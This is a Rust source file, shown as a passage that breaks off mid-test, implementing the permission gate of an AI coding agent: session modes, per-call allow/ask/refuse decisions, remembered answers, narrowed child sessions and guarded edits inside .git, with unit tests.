//! Permissions: the gate in front of every tool call of a top-level session. A session's
//! `Permissions` hold its mode (changeable through ACP `session/set_mode`) and the "always"
//! answers the user gave; `admit` decides each call before it is dispatched, asking the editor
//! through a `PermissionPrompt` when the mode says so.
//!
//! The gate knows no tool by name: it decides on what the call's tool declares it touches
//! (`tools::Access`), in one exhaustive `match` of access and mode with no default arm (`verdict`).
//! Paths resolve against the session cwd; `..` is settled lexically and every existing symlink is
//! followed, as the file tools do, so neither can hide an outside path.
//!
//! | access | ask | accept-edits | read-only | bypass |
//! |---|---|---|---|---|
//! | `Read`, `Search` inside the workspace (`read`, `glob`, `grep`) | allow | allow | allow | allow |
//! | `Plan` (`todo_write`), `Delegate` (`subagent`, `send_message`, …) | allow | allow | allow | allow |
//! | `Edit`, `Delete`, `Move` inside the workspace (`write`, `edit`) | ask | allow | refuse | allow |
//! | the same of anything in `.git` (git runs its hooks, config, `commondir`; never remembered) | ask | ask | refuse | allow |
//! | `Execute` (`bash`), `Fetch`, `External` (a tool or an external agent kin cannot see into) | ask | ask | refuse | allow |
//! | `ExecuteSandboxed` (`bash` confined by the session's sandbox, in force on this kernel) | allow | allow | refuse | allow |
//! | any path outside the workspace (`read` too) | ask | ask | refuse | allow |
//!
//! A call whose tool refuses its arguments before touching anything (`Tool::check`) is not asked
//! about: that refusal is its result. Remembered answers ("allow always" / "reject always")
//! replace a question, never a refusal of read-only mode: inside the workspace they are kept per
//! tool name; outside it per tool and directory (the real directory of the path, or the path
//! itself when it is a directory), and they cover everything under that directory. A dismissed,
//! failed or cancelled request counts as a rejection. A rejected call never runs: the model reads
//! `Error: the user rejected this <tool> call` (code `PERMISSION_REJECTED`); a call read-only
//! mode refuses reads `Error: <tool> is not allowed in read-only mode` (code `PERMISSION_DENIED`).
//!
//! A child shares its top-level session's mode and remembered answers through `narrowed`, under
//! a cap (its named agent's `permissionMode` and every cap above it): its mode is the stricter of
//! the two, so a child never runs looser than its parent, and an agent's mode only narrows.
//!
//! Only a call admitted as `Execute` may run a command outside the session's sandbox
//! (`ToolContext::allow_unsandboxed`): `bash` with `sandbox: "off"` declares `Execute`, so it
//! always asks in `ask` and `accept-edits`.
//!
//! A session without `Permissions` (tests) runs every call, and the file tools keep refusing
//! paths outside the workspace themselves (`ToolContext::allow_outside` stays false; only the gate
//! sets it, for a call it let touch an outside path).

use std::fmt;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex, MutexGuard, PoisonError};

use futures::future::BoxFuture;
use serde_json::Value;

use crate::tools::{Access, ToolContext, ToolError, ToolRegistry, parse_arguments, unknown_tool};
use crate::tools::{args, paths};

/// How much a session may do without asking.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub enum PermissionMode {
    /// Writes, edits, shell commands and outside paths ask first.
    #[default]
    Ask,
    /// File edits in the workspace run; shell commands and outside paths ask.
    AcceptEdits,
    /// Reads and searches in the workspace only; writes and commands are refused.
    ReadOnly,
    /// Nothing asks.
    Bypass,
}

impl PermissionMode {
    /// Every mode, in the order editors list them.
    pub const ALL: [PermissionMode; 4] =
        [PermissionMode::Ask, PermissionMode::AcceptEdits, PermissionMode::ReadOnly, PermissionMode::Bypass];

    /// The stable id (ACP session mode id, config value, flag value).
    pub fn id(self) -> &'static str {
        match self {
            PermissionMode::Ask => "ask",
            PermissionMode::AcceptEdits => "accept-edits",
            PermissionMode::ReadOnly => "read-only",
            PermissionMode::Bypass => "bypass",
        }
    }

    /// The mode with this id.
    pub fn parse(id: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|mode| mode.id() == id)
    }

    /// `parse` with an error that names the bad id and lists the valid ones (for clap and config).
    pub fn parse_arg(id: &str) -> Result<Self, String> {
        Self::parse(id)
            .ok_or_else(|| format!("unknown permission mode \"{id}\"; valid modes are {}", Self::valid_ids()))
    }

    /// How much the mode lets run without asking: read-only < ask < accept-edits < bypass.
    fn permissiveness(self) -> u8 {
        match self {
            PermissionMode::ReadOnly => 0,
            PermissionMode::Ask => 1,
            PermissionMode::AcceptEdits => 2,
            PermissionMode::Bypass => 3,
        }
    }

    /// This mode, or `ceiling` where this one is more permissive: what a restored session runs
    /// in when kin was started in `ceiling`.
    pub fn capped_at(self, ceiling: PermissionMode) -> PermissionMode {
        if self.permissiveness() > ceiling.permissiveness() { ceiling } else { self }
    }

    /// `ask, accept-edits, read-only, bypass`.
    pub fn valid_ids() -> String {
        Self::ALL.map(PermissionMode::id).join(", ")
    }

    /// A short human name.
    pub fn name(self) -> &'static str {
        match self {
            PermissionMode::Ask => "Ask",
            PermissionMode::AcceptEdits => "Accept edits",
            PermissionMode::ReadOnly => "Read only",
            PermissionMode::Bypass => "Bypass permissions",
        }
    }

    /// One sentence on what the mode allows.
    pub fn description(self) -> &'static str {
        match self {
            PermissionMode::Ask => {
                "Ask before writing or editing files, running commands, or touching paths outside the workspace."
            }
            PermissionMode::AcceptEdits => {
                "Edit files in the workspace without asking; ask before running commands or touching paths outside the workspace."
            }
            PermissionMode::ReadOnly => "Read and search the workspace only; writes, edits and commands are refused.",
            PermissionMode::Bypass => "Run every tool call without asking.",
        }
    }
}

impl fmt::Display for PermissionMode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.id())
    }
}

/// The user's answer to a permission request.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PermissionAnswer {
    AllowOnce,
    AllowAlways,
    RejectOnce,
    RejectAlways,
    /// Dismissed, failed or cancelled: a rejection.
    Dismissed,
}

/// What the user is asked about.
#[derive(Debug, Clone, PartialEq)]
pub struct PermissionRequest {
    pub session_id: String,
    pub call_id: String,
    /// The tool name (for a question an external child forwards: its call's ACP kind).
    pub tool: String,
    /// What the call would do, for the dialog.
    pub title: String,
    /// The call's arguments (parsed JSON).
    pub raw_input: Value,
    /// What the call touches, as its tool declared it.
    pub access: Access,
    /// The directory the call's relative paths resolve against (empty: the process directory).
    pub cwd: PathBuf,
    /// Every path the call names is known to lie in the workspace (a forwarded question is
    /// answered by the mode alone only for such a read or edit).
    pub in_workspace: bool,
    /// An "always" answer is kept (`Question::keeps_always`): the editor is offered "Allow
    /// always" and "Reject always" only then.
    pub keeps_always: bool,
    /// The call itself when the question is about something else done on its behalf (an
    /// external child's request forwarded on the delegating call): the editor shows the
    /// question's title and kind while it asks, then the call's own again.
    pub on_behalf_of: Option<CallShown>,
    /// The editor was never shown `call_id` (a background child's question, asked on its
    /// parent after the delegating call ended): it is announced as a `pending` tool call first,
    /// and closed once answered.
    pub unannounced: bool,
}

/// How the editor shows a call: its title, the tool that makes it and what it touches.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CallShown {
    pub title: String,
    pub tool: String,
    pub access: Access,
}

/// Asks the user (through the editor) whether a tool call may run.
pub trait PermissionPrompt: Send + Sync {
    /// Resolves with the answer; any failure is `Dismissed`.
    fn ask(&self, request: PermissionRequest) -> BoxFuture<'static, PermissionAnswer>;

    /// What the session's permission mode answers about `request` now, asking nobody; `None`
    /// when the user would be asked (or this prompt knows no mode). An answer given earlier (an
    /// external child's allowed edit) stands only where this is `None`, so it never overrides a
    /// read-only refusal.
    fn decided_by_mode(&self, _request: &PermissionRequest) -> Option<PermissionAnswer> {
        None
    }
}

/// Asks a child's questions on its parent session, for an editor that does not show child
/// sessions (it never heard of the child's id): the question names the child (`label: <the
/// call's title>`) and goes out under the parent session, never the child's. While the call that
/// started the child runs (a foreground child's), it is asked on that call, and the editor shows
/// the call as it was once it is answered; once that call ended (a background child's, which ends
/// when the child starts) or without one (a child resumed later), on a call of its own
/// (`<child id>/<call id>`), announced first. A grandchild's wrapper asks through its parent's,
/// so every question reaches the top-level session.
pub(crate) struct OnDelegatingCall {
    pub inner: Arc<dyn PermissionPrompt>,
    /// The parent session.
    pub parent: String,
    /// The parent's call that started the child and its progress (open while the call runs),
    /// for a foreground child; `None` for a background or resumed one.
    pub delegating: Option<(String, crate::tools::Progress)>,
    /// How the editor shows that call (its title names the child).
    pub call: CallShown,
}

impl PermissionPrompt for OnDelegatingCall {
    fn ask(&self, mut request: PermissionRequest) -> BoxFuture<'static, PermissionAnswer> {
        request.title = format!("{}: {}", self.call.title, request.title);
        let child = std::mem::replace(&mut request.session_id, self.parent.clone());
        match &self.delegating {
            Some((call_id, progress)) if progress.is_open() => {
                request.call_id = call_id.clone();
                request.on_behalf_of = Some(self.call.clone());
                request.unannounced = false;
            }
            _ => {
                request.call_id = format!("{child}/{}", request.call_id);
                request.unannounced = true;
            }
        }
        self.inner.ask(request)
    }
}

/// How the gate treats one call.
#[derive(Debug, Clone, PartialEq)]
pub enum Decision {
    /// Run it; `outside` when it was allowed to touch a path outside the workspace.
    Allow { outside: bool },
    /// Ask the user first.
    Ask(Question),
    /// Do not run it; the error is its result.
    Refuse(ToolError),
}

/// A call that needs the user's answer.
#[derive(Debug, Clone, PartialEq)]
pub struct Question {
    pub tool: String,
    pub scope: Scope,
    /// What an "always" answer is kept under (`Tool::remembered_as`); `None`: it is not kept.
    pub remembered_as: Option<String>,
}

impl Question {
    /// Whether an "always" answer to this question is kept: the editor is offered one only then.
    pub fn keeps_always(&self) -> bool {
        self.remembered_as.is_some() && !matches!(self.scope, Scope::Guarded(_))
    }

    /// The dialog's title: the call's own, and where it reaches outside the workspace.
    pub fn title(&self, call_title: &str) -> String {
        match &self.scope {
            Scope::Workspace => call_title.to_string(),
            Scope::Outside(paths) => {
                let shown: Vec<String> = paths.iter().map(|p| p.display().to_string()).collect();
                format!("{call_title} (outside the workspace: {})", shown.join(", "))
            }
            Scope::Guarded(paths) => {
                let shown: Vec<String> = paths.iter().map(|p| p.display().to_string()).collect();
                format!("{call_title} (git runs what this changes: {})", shown.join(", "))
            }
        }
    }
}

/// Where a call acts.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Scope {
    Workspace,
    /// The real paths outside the workspace the call names.
    Outside(Vec<PathBuf>),
    /// Workspace paths the call changes in `.git` (git runs what its hooks, config and
    /// `commondir` say): asked about in `accept-edits` too, and never remembered.
    Guarded(Vec<PathBuf>),
}

/// What the mode makes of a declared access.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Verdict {
    Allow,
    Ask,
    /// Read-only mode refuses it.
    Refuse,
}

/// The gate's table: what `mode` does with `access`, where `outside` says that a path the call
/// names lies outside the workspace (or, for a forwarded call, is not known to lie in it). No arm
/// allows by default: every access kind is named in every mode.
fn verdict(access: &Access, mode: PermissionMode, outside: bool) -> Verdict {
    use Access::{Delegate, Delete, Edit, Execute, ExecuteSandboxed, External, Fetch, Move, Plan, Read, Search};
    use PermissionMode::{AcceptEdits, Ask, Bypass, ReadOnly};
    match (access, mode, outside) {
        // An in-process child's own calls pass this same gate; the plan is the agent's own.
        (Delegate | Plan, Ask | AcceptEdits | ReadOnly | Bypass, _) => Verdict::Allow,
        (Read { .. } | Search { .. }, Ask | AcceptEdits | ReadOnly, false) => Verdict::Allow,
        (Read { .. } | Search { .. }, Ask | AcceptEdits, true) => Verdict::Ask,
        (Edit { .. } | Delete { .. } | Move { .. }, AcceptEdits, false) => Verdict::Allow,
        (Edit { .. } | Delete { .. } | Move { .. }, Ask, _)
        | (Edit { .. } | Delete { .. } | Move { .. }, AcceptEdits, true) => Verdict::Ask,
        (Execute { .. } | Fetch | External, Ask | AcceptEdits, _) => Verdict::Ask,
        // The kernel confines it to the sandbox: that is what the question was for.
        (ExecuteSandboxed { .. }, Ask | AcceptEdits, _) => Verdict::Allow,
        (Read { .. } | Search { .. }, ReadOnly, true)
        | (
            Edit { .. } | Delete { .. } | Move { .. } | Execute { .. } | ExecuteSandboxed { .. } | Fetch | External,
            ReadOnly,
            _,
        ) => Verdict::Refuse,
        (
            Read { .. }
            | Search { .. }
            | Edit { .. }
            | Delete { .. }
            | Move { .. }
            | Execute { .. }
            | ExecuteSandboxed { .. }
            | Fetch
            | External,
            Bypass,
            _,
        ) => Verdict::Allow,
    }
}

/// A remembered "always" answer.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Rule {
    tool: String,
    /// `None`: inside the workspace; `Some(dir)`: anything under this real directory outside it.
    under: Option<PathBuf>,
    allow: bool,
}

impl Rule {
    /// Whether this rule answers for `tool` at `place` (`None`: inside the workspace; `Some`: a
    /// real path outside it).
    fn covers(&self, tool: &str, place: Option<&Path>) -> bool {
        self.tool == tool
            && match (&self.under, place) {
                (None, None) => true,
                (Some(dir), Some(path)) => path.starts_with(dir),
                (None, Some(_)) | (Some(_), None) => false,
            }
    }
}

/// The permission state of a top-level session, which its children share.
#[derive(Debug)]
struct Shared {
    mode: Mutex<PermissionMode>,
    rules: Mutex<Vec<Rule>>,
}

/// One session's permission state: its top-level session's mode and remembered answers, and for
/// a child a cap (its named agent's `permissionMode`, and its parent's cap) the mode never goes
/// above.
#[derive(Debug)]
pub struct Permissions {
    shared: Arc<Shared>,
    cap: Option<PermissionMode>,
    /// Held while one of this session's questions is open, so its calls ask one at a time and an
    /// "always" answer covers the calls waiting behind it. Per session: a question a background
    /// child's user does not answer must not hold its parent's (or a sibling's) calls.
    asking: tokio::sync::Mutex<()>,
}

impl Permissions {
    pub fn new(mode: PermissionMode) -> Self {
        let shared = Shared { mode: Mutex::new(mode), rules: Mutex::new(Vec::new()) };
        Permissions { shared: Arc::new(shared), cap: None, asking: Default::default() }
    }

    /// The permissions of a child: the same mode and remembered answers, never looser than
    /// these nor than `cap`.
    pub fn narrowed(&self, cap: Option<PermissionMode>) -> Permissions {
        let cap = match (self.cap, cap) {
            (Some(mine), Some(theirs)) => Some(mine.capped_at(theirs)),
            (mine, theirs) => mine.or(theirs),
        };
        Permissions { shared: self.shared.clone(), cap, asking: Default::default() }
    }

    /// The mode calls are decided in: the top-level session's, under the cap.
    pub fn mode(&self) -> PermissionMode {
        let mode = *lock(&self.shared.mode);
        self.cap.map_or(mode, |cap| mode.capped_at(cap))
    }

    /// Changes the top-level session's mode; it applies to every call decided from now on.
    pub fn set_mode(&self, mode: PermissionMode) {
        *lock(&self.shared.mode) = mode;
    }

    /// Decides a call of `tool` that touches `access`, in the workspace `cwd` (empty: the
    /// process directory), its "always" answers kept under its name.
    pub fn decide(&self, tool: &str, access: &Access, cwd: &Path) -> Decision {
        self.decide_as(tool, Some(tool), access, cwd)
    }

    /// `decide`, with the "always" answers kept under `remembered_as` (`Tool::remembered_as`;
    /// `None`: none is consulted nor kept, the call is asked about each time).
    pub(crate) fn decide_as(&self, tool: &str, remembered_as: Option<&str>, access: &Access, cwd: &Path) -> Decision {
        let outside = outside_paths(access, cwd);
        let guarded = guarded_paths(access, cwd);
        match verdict(access, self.mode(), !outside.is_empty() || !guarded.is_empty()) {
            Verdict::Allow => Decision::Allow { outside: !outside.is_empty() },
            Verdict::Refuse => match (access, outside.first()) {
                (Access::Read { .. } | Access::Search { .. }, Some(path)) => {
                    Decision::Refuse(outside_in_read_only(tool, path))
                }
                _ => Decision::Refuse(not_in_read_only(tool)),
            },
            Verdict::Ask => {
                let scope = match (outside.is_empty(), guarded.is_empty()) {
                    (false, _) => Scope::Outside(outside),
                    (true, false) => Scope::Guarded(guarded),
                    (true, true) => Scope::Workspace,
                };
                match remembered_as.and_then(|key| self.remembered(key, &scope)) {
                    Some(true) => Decision::Allow { outside: matches!(scope, Scope::Outside(_)) },
                    Some(false) => Decision::Refuse(rejected(tool)),
                    None => Decision::Ask(Question {
                        tool: tool.to_string(),
                        scope,
                        remembered_as: remembered_as.map(str::to_string),
                    }),
                }
            }
        }
    }

    /// The mode's answer to a question an external ACP child forwards, by what the child's call
    /// touches (its ACP kind, mapped in `acp::child`) and whether its paths are known to lie in
    /// the workspace, or `None` when the user must be asked. The table is the one for kin's own
    /// calls (`verdict`); remembered answers are not consulted.
    pub fn decide_forwarded(&self, access: &Access, in_workspace: bool, cwd: &Path) -> Option<PermissionAnswer> {
        let guarded = !guarded_paths(access, cwd).is_empty();
        match verdict(access, self.mode(), !in_workspace || guarded) {
            Verdict::Allow => Some(PermissionAnswer::AllowOnce),
            Verdict::Refuse => Some(PermissionAnswer::RejectOnce),
            Verdict::Ask => None,
        }
    }

    /// Applies the user's answer to `question` (remembering "always" answers).
    pub fn answer(&self, question: &Question, answer: PermissionAnswer) -> Decision {
        let outside = matches!(question.scope, Scope::Outside(_));
        match answer {
            PermissionAnswer::AllowOnce => Decision::Allow { outside },
            PermissionAnswer::AllowAlways => {
                self.remember(question, true);
                Decision::Allow { outside }
            }
            PermissionAnswer::RejectAlways => {
                self.remember(question, false);
                Decision::Refuse(rejected(&question.tool))
            }
            PermissionAnswer::RejectOnce | PermissionAnswer::Dismissed => Decision::Refuse(rejected(&question.tool)),
        }
    }

    /// The remembered answer covering a call, if any: the latest rule for each place it acts;
    /// a rejection of any place rejects the call, and it is allowed only when every place is.
    fn remembered(&self, tool: &str, scope: &Scope) -> Option<bool> {
        let rules = lock(&self.shared.rules);
        let latest = |place: Option<&Path>| rules.iter().rev().find(|rule| rule.covers(tool, place)).map(|r| r.allow);
        match scope {
            Scope::Workspace => latest(None),
            Scope::Guarded(_) => None,
            Scope::Outside(paths) => {
                let answers: Vec<Option<bool>> = paths.iter().map(|p| latest(Some(p))).collect();
                if answers.contains(&Some(false)) {
                    Some(false)
                } else if answers.iter().all(|a| *a == Some(true)) {
                    Some(true)
                } else {
                    None
                }
            }
        }
    }

    fn remember(&self, question: &Question, allow: bool) {
        let Some(tool) = question.remembered_as.clone() else { return };
        let mut rules = lock(&self.shared.rules);
        match &question.scope {
            Scope::Workspace => rules.push(Rule { tool, under: None, allow }),
            Scope::Guarded(_) => {}
            Scope::Outside(paths) => {
                for path in paths {
                    let dir = if path.is_dir() {
                        path.clone()
                    } else {
                        path.parent().map_or_else(|| path.clone(), Path::to_path_buf)
                    };
                    rules.push(Rule { tool: tool.clone(), under: Some(dir), allow });
                }
            }
        }
    }
}

fn lock<T>(mutex: &Mutex<T>) -> MutexGuard<'_, T> {
    mutex.lock().unwrap_or_else(PoisonError::into_inner)
}

/// The real paths outside the workspace `cwd` that `access` names (a search that names none
/// searches the workspace; a blank path is the workspace too).
fn outside_paths(access: &Access, cwd: &Path) -> Vec<PathBuf> {
    let workspace = [cwd.to_path_buf()];
    let named = access.paths().iter().filter(|p| !p.as_os_str().to_string_lossy().trim().is_empty());
    named
        .map(|raw| paths::resolve(cwd, &raw.to_string_lossy()))
        .filter(|path| !paths::inside_workspace(&workspace, path))
        .map(|path| paths::real_path(&path).unwrap_or(path))
        .collect()
}

/// The paths in the workspace `cwd` that `access` changes (an edit, a delete, a move) in its
/// `.git`, or that hold it: git runs what its hooks and config say (`core.fsmonitor`, aliases,
/// filters), and `commondir` (or a submodule's git dir) moves those elsewhere. The sandbox keeps
/// all of `.git` read-only for commands; a file tool's change of it is asked about even where
/// edits run unasked.
fn guarded_paths(access: &Access, cwd: &Path) -> Vec<PathBuf> {
    match access {
        Access::Edit { .. } | Access::Delete { .. } | Access::Move { .. } => {}
        Access::Read { .. }
        | Access::Search { .. }
        | Access::Execute { .. }
        | Access::ExecuteSandboxed { .. }
        | Access::Fetch
        | Access::Delegate
        | Access::Plan
        | Access::External => return Vec::new(),
    }
    let git = paths::real_path(&cwd.join(".git")).unwrap_or_else(|| cwd.join(".git"));
    access
        .paths()
        .iter()
        .filter(|p| !p.as_os_str().to_string_lossy().trim().is_empty())
        .map(|raw| paths::resolve(cwd, &raw.to_string_lossy()))
        .map(|path| paths::real_path(&path).unwrap_or(path))
        .filter(|path| path.starts_with(&git) || git.starts_with(path))
        .collect()
}

/// The gate in front of one call of `tool` from `tools`: returns the context to run it with
/// (`allow_outside` set when the user or the mode let it touch an outside path), or the error that
/// is its result. Without `permissions` every call runs (and the tools keep their own workspace
/// check). While a question is open, the call's cancellation dismisses it.
pub(crate) async fn admit(
    permissions: Option<Arc<Permissions>>,
    prompt: Option<Arc<dyn PermissionPrompt>>,
    tools: &ToolRegistry,
    tool: &str,
    raw_arguments: &str,
    mut ctx: ToolContext,
) -> Result<ToolContext, ToolError> {
    let Some(permissions) = permissions else {
        return Ok(ctx);
    };
    let Some(handler) = tools.get(tool).cloned() else {
        return Err(unknown_tool(tool));
    };
    let parsed = parse_arguments(tool, raw_arguments);
    let arguments = parsed.clone().unwrap_or(Value::Null);
    let access = handler.access(&arguments);
    let unconfined = matches!(access, Access::Execute { .. });
    let remembered_as = handler.remembered_as(&arguments);
    let cwd = ctx.cwd.clone().unwrap_or_default();
    let mut decision = permissions.decide_as(tool, remembered_as.as_deref(), &access, &cwd);
    if let Decision::Ask(_) = decision {
        // A call that fails before it touches anything gets that failure, not a question.
        parsed.and_then(|arguments| handler.check(&arguments))?;
        let Some(prompt) = prompt else {
            // Nobody to ask: fail closed.
            return Err(rejected(tool));
        };
        let _open = tokio::select! {
            guard = permissions.asking.lock() => guard,
            () = ctx.cancel.cancelled() => return Err(args::aborted()),
        };
        // The mode or the remembered answers may have changed while this call waited.
        decision = permissions.decide_as(tool, remembered_as.as_deref(), &access, &cwd);
        if let Decision::Ask(question) = decision {
            let request = PermissionRequest {
                session_id: ctx.session_id.clone(),
                call_id: ctx.call_id.clone(),
                tool: tool.to_string(),
                title: question.title(&handler.title(&arguments)),
                raw_input: arguments,
                access,
                cwd,
                in_workspace: matches!(question.scope, Scope::Workspace | Scope::Guarded(_)),
                keeps_always: question.keeps_always(),
                on_behalf_of: None,
                unannounced: false,
            };
            let answer = tokio::select! {
                answer = prompt.ask(request) => answer,
                // Called off before the user answered: aborted, not rejected by the user.
                () = ctx.cancel.cancelled() => return Err(args::aborted()),
            };
            decision = permissions.answer(&question, answer);
        }
    }
    match decision {
        Decision::Allow { outside } => {
            ctx.allow_outside = outside;
            // Admitted as an unconfined command (asked, or by the mode): only such a call may
            // run outside the session's sandbox.
            ctx.allow_unsandboxed = unconfined;
            Ok(ctx)
        }
        Decision::Refuse(error) => Err(error),
        Decision::Ask(_) => Err(rejected(tool)),
    }
}

fn permission_error(code: &str, message: String) -> ToolError {
    ToolError::named("PermissionError", code, message)
}

/// The result of a call the user rejected (or a request that was dismissed, failed or cancelled).
pub(crate) fn rejected(tool: &str) -> ToolError {
    permission_error("PERMISSION_REJECTED", format!("the user rejected this {tool} call"))
}

/// The result of a write, edit or command in read-only mode.
pub(crate) fn not_in_read_only(tool: &str) -> ToolError {
    permission_error("PERMISSION_DENIED", format!("{tool} is not allowed in read-only mode"))
}

fn outside_in_read_only(tool: &str, path: &Path) -> ToolError {
    permission_error(
        "PERMISSION_DENIED",
        format!("{tool} is not allowed in read-only mode outside the workspace ({} is outside it)", path.display()),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_restored_mode_is_capped_at_the_start_mode() {
        use PermissionMode::{AcceptEdits, Ask, Bypass, ReadOnly};
        let order = [ReadOnly, Ask, AcceptEdits, Bypass];
        for (i, recorded) in order.into_iter().enumerate() {
            for (j, start) in order.into_iter().enumerate() {
                let expected = if i > j { start } else { recorded };
                assert_eq!(recorded.capped_at(start), expected, "{recorded:?} under {start:?}");
            }
        }
    }

    /// "Always" answers are kept under what the tool says (`Tool::remembered_as`), not its
    /// model-visible name: another tool under that name asks again; `None` is asked every time.
    #[test]
    fn always_answers_are_kept_under_the_tools_identity() {
        let permissions = Permissions::new(PermissionMode::Ask);
        let ws = Path::new("/w");
        let call = Access::External;
        let Decision::Ask(question) = permissions.decide_as("mcp__x_y__run", Some("x.y:fx:run"), &call, ws) else {
            panic!("asked")
        };
        assert!(question.keeps_always());
        permissions.answer(&question, PermissionAnswer::AllowAlways);
        assert!(matches!(
            permissions.decide_as("mcp__x_y__run", Some("x.y:fx:run"), &call, ws),
            Decision::Allow { .. }
        ));
        let other = permissions.decide_as("mcp__x_y__run", Some("x_y:other:run"), &call, ws);
        assert!(matches!(other, Decision::Ask(_)), "another server under the same model-visible name asks");
        let Decision::Ask(never) = permissions.decide_as("bash", None, &call, ws) else { panic!("asked") };
        assert!(!never.keeps_always());
        permissions.answer(&never, PermissionAnswer::AllowAlways);
        assert!(matches!(permissions.decide_as("bash", None, &call, ws), Decision::Ask(_)), "not remembered");
    }

    #[test]
    fn a_narrowed_child_is_never_looser_than_its_parent_or_its_cap() {
        use PermissionMode::{AcceptEdits, Ask, Bypass, ReadOnly};
        let edit = Access::Edit { paths: vec![PathBuf::from("a.txt")] };
        let root = Permissions::new(Bypass);
        let asks = root.narrowed(Some(Ask));
        assert_eq!(asks.mode(), Ask);
        assert!(matches!(asks.decide("write", &edit, Path::new("/w")), Decision::Ask(_)));
        // The agent's cap only narrows: `bypass` under an `ask` parent stays `ask`.
        assert_eq!(asks.narrowed(Some(Bypass)).mode(), Ask);
        assert_eq!(asks.narrowed(None).mode(), Ask, "a grandchild keeps its parent's cap");
        let read_only = asks.narrowed(Some(ReadOnly));
        assert_eq!(read_only.decide("write", &edit, Path::new("/w")), Decision::Refuse(not_in_read_only("write")));
        // The top-level mode still applies when it is the stricter one.
        root.set_mode(ReadOnly);
        assert_eq!((asks.mode(), root.narrowed(Some(AcceptEdits)).mode()), (ReadOnly, ReadOnly));
        root.set_mode(AcceptEdits);
        assert_eq!((asks.mode(), root.narrowed(Some(Bypass)).mode()), (Ask, AcceptEdits));
        for a in PermissionMode::ALL {
            for b in PermissionMode::ALL {
                assert_eq!(a.capped_at(b), b.capped_at(a), "{a} {b}");
                assert!(a.capped_at(b) == a || a.capped_at(b) == b);
            }
            assert_eq!(a.capped_at(ReadOnly), ReadOnly);
            assert_eq!(a.capped_at(Bypass), a);
        }
    }

    #[test]
    fn a_narrowed_child_shares_the_remembered_answers() {
        let root = Permissions::new(PermissionMode::Ask);
        let child = root.narrowed(Some(PermissionMode::Ask));
        let run = Access::Execute { command: "ls".into(), workdir: None };
        let Decision::Ask(question) = child.decide("bash", &run, Path::new("/w")) else { panic!("asks") };
        child.answer(&question, PermissionAnswer::AllowAlways);
        assert_eq!(root.decide("bash", &run, Path::new("/w")), Decision::Allow { outside: false });
    }

    #[test]
    fn forwarded_questions_follow_the_mode_by_access_and_workspace() {
        use PermissionAnswer::{AllowOnce, RejectOnce};
        let (allow, reject) = (Some(AllowOnce), Some(RejectOnce));
        let execute = Access::Execute { command: String::new(), workdir: None };
        // (access, in the workspace): the plan; search in / outside; delete in / outside; execute;
        // a kind kin has no word for.
        let calls = [
            (Access::Plan, false),
            (Access::Search { paths: Vec::new() }, true),
            (Access::Search { paths: Vec::new() }, false),
            (Access::Delete { paths: Vec::new() }, true),
            (Access::Delete { paths: Vec::new() }, false),
            (execute, true),
            (Access::External, true),
        ];
        let cases: [(PermissionMode, [Option<PermissionAnswer>; 7]); 4] = [
            (PermissionMode::Ask, [allow, allow, None, None, None, None, None]),
            (PermissionMode::AcceptEdits, [allow, allow, None, allow, None, None, None]),
            (PermissionMode::ReadOnly, [allow, allow, reject, reject, reject, reject, reject]),
            (PermissionMode::Bypass, [allow; 7]),
        ];
        for (mode, expected) in cases {
            let permissions = Permissions::new(mode);
            let got =
                calls.clone().map(|(access, inside)| permissions.decide_forwarded(&access, inside, Path::new("/ws")));
            assert_eq!(got, expected, "{mode:?}");
        }
    }

    use std::os::unix::fs::symlink;
    use std::sync::atomic::{AtomicUsize, Ordering};

    use futures::FutureExt;
    use serde_json::json;
    use tokio_util::sync::CancellationToken;

    use super::PermissionMode::{AcceptEdits, Ask, Bypass, ReadOnly};
    use crate::tools::ToolOutput;
    use crate::tools::builtin::register_coding_tools;
    use crate::tools::fs::FileState;

    /// A temp dir holding `ws/` (the workspace, with `a.txt`) and `outside/` (with `secret.txt`).
    struct Layout {
        _dir: tempfile::TempDir,
        ws: PathBuf,
        outside: PathBuf,
    }

    fn layout() -> Layout {
        let dir = tempfile::tempdir().unwrap();
        let ws = dir.path().join("ws");
        let outside = dir.path().join("outside");
        std::fs::create_dir(&ws).unwrap();
        std::fs::create_dir(&outside).unwrap();
        std::fs::write(ws.join("a.txt"), "a\n").unwrap();
        std::fs::write(outside.join("secret.txt"), "secret\n").unwrap();
        Layout { _dir: dir, ws, outside }
    }

    /// What the table says, as a word: allow, allow-outside, ask, denied or rejected.
    fn word(decision: &Decision) -> &'static str {
        match decision {
            Decision::Allow { outside: false } => "allow",
            Decision::Allow { outside: true } => "allow-outside",
            Decision::Ask(_) => "ask",
            Decision::Refuse(e) if e.code == "PERMISSION_DENIED" => "denied",
            Decision::Refuse(e) if e.code == "PERMISSION_REJECTED" => "rejected",
            Decision::Refuse(_) => "other",
        }
    }

    /// Delegates, as `subagent` does.
    struct Delegating;

    impl crate::tools::Tool for Delegating {
        fn name(&self) -> &str {
            "subagent"
        }
        fn description(&self) -> String {
            String::new()
        }
        fn parameters(&self) -> Value {
            json!({"type": "object"})
        }
        fn access(&self, _arguments: &Value) -> Access {
            Access::Delegate
        }
        fn execute(&self, _arguments: Value, _ctx: ToolContext) -> BoxFuture<'static, Result<ToolOutput, ToolError>> {
            async { Ok(ToolOutput::text("delegated")) }.boxed()
        }
    }

    /// The coding tools and a delegating one.
    fn tools() -> ToolRegistry {
        let mut tools = ToolRegistry::new();
        register_coding_tools(&mut tools, FileState::default());
        tools.register(Arc::new(Delegating));
        tools
    }

    /// What the call of `tool` with `args` declares it touches.
    fn access(tool: &str, args: &Value) -> Access {
        tools().get(tool).expect("a known tool").access(args)
    }

    fn decide(mode: PermissionMode, ws: &Path, tool: &str, args: Value) -> &'static str {
        let permissions = Permissions::new(mode);
        word(&permissions.decide(tool, &access(tool, &args), ws))
    }

    #[test]
    fn mode_ids_round_trip_and_bad_ids_are_named() {
        for mode in PermissionMode::ALL {
            assert_eq!(PermissionMode::parse(mode.id()), Some(mode));
            assert_eq!(mode.to_string(), mode.id());
        }
        assert_eq!(PermissionMode::default(), Ask);
